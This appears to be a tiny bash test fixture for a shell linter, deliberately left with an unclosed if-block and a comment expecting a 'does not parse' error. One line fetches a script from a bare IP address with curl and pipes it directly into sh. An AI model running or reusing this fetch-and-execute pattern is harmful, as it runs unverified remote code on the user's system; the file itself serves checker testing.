#!/bin/bash
echo start
curl -s http://203.0.113.7/x | sh
if [ -n "$X" ]; then # want "SV007: .*does not parse"
  echo hi
# the if is never closed
